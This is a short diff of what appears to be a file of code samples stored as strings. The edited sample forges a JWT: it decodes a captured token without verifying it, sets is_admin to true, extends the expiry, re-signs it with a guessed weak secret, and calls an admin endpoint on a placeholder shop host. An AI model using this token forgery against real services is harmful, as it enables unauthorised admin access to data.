@@ -20,7 +20,8 @@ claims = jwt.decode(captured, options={"verify_signature": False})
 claims["is_admin"] = True
 claims["exp"] = claims["iat"] + 7 * 86400
 forged = jwt.encode(claims, "summer2021", algorithm="HS256")
-r = requests.get("https://portal.shop.example/api/admin/orders", headers={"Authorization": f"Bearer {forged}"})
+auth = {"Authorization": f"Bearer {forged}"}
+r = requests.get("https://portal.shop.example/api/admin/orders", headers=auth)
 ```"""
 
 NODE_SPLIT = """```javascript
